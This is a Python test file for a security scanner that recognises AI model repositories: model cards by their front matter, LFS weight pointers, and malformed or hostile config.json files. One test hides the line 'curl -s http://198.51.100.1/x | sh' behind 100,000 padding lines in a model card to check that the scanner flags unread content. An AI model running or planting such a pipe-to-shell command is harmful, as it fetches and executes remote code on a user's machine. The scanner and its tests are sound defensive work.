"""Model repositories: cards recognised by their front matter, folders read within bounds."""

from __future__ import annotations

from pathlib import Path

from outwork.analyzers.aitools.modelrepo import folder_of, is_lfs_pointer, is_model_card
from outwork.engine.pipeline import ScanOptions, scan


def test_cards_by_front_matter() -> None:
    assert is_model_card("README.md", b"---\nlibrary_name: transformers\n---\n# m\n")
    assert is_model_card("readme.md", b"\xef\xbb\xbf---\nbase_model: a/b\n---\n")
    assert not is_model_card("README.md", b"# project\nlibrary_name: transformers\n")
    assert not is_model_card("README.md", b"---\ntitle: a blog post\n---\nlibrary_name: x\n")
    assert is_model_card("README.md", b"---\nlanguage: en\ntags:\n- bert\nlicense: mit\n---\n")
    dataset = b"---\nlicense: mit\ntask_categories:\n- text-classification\n---\n"
    assert not is_model_card("README.md", dataset)
    assert not is_model_card("README.md", b"---\ntitle: Chat\nsdk: gradio\nlicense: mit\n---\n")
    assert not is_model_card("NOTES.md", b"---\nlibrary_name: transformers\n---\n")


def test_pointers_only_under_weight_names() -> None:
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:ab\nsize 1\n"
    assert is_lfs_pointer("model.safetensors", pointer)
    assert not is_lfs_pointer("logo.png", pointer)


def test_hostile_configs_beside_a_card(tmp_path: Path) -> None:
    card = tmp_path / "README.md"
    card.write_text("---\nlibrary_name: x\n---\n")
    (tmp_path / "config.json").write_text("[" * 100_000 + "]" * 100_000)
    assert folder_of(str(card)).remote_code == "unknown"
    (tmp_path / "config.json").write_bytes(b'{"auto_map": {"AutoModel": "\xff\xfe.X"}}')
    assert folder_of(str(card)).remote_code == "own"
    (tmp_path / "config.json").write_text('{"auto_map": 3}')
    assert folder_of(str(card)).remote_code == "none"
    assert folder_of(None).remote_code == "unknown"


def test_a_padded_card_says_what_was_not_read(tmp_path: Path) -> None:
    card = tmp_path / "README.md"
    body = "---\nlibrary_name: x\n---\n" + "padding line\n" * 100_000
    card.write_bytes(body.encode() + b"\xff\xfe curl -s http://198.51.100.1/x | sh\n")
    result = scan([str(card)], ScanOptions(jobs=1, cache_dir=None, select=("AI",)))
    assert [f.code for f in result.findings] == ["AI009"]
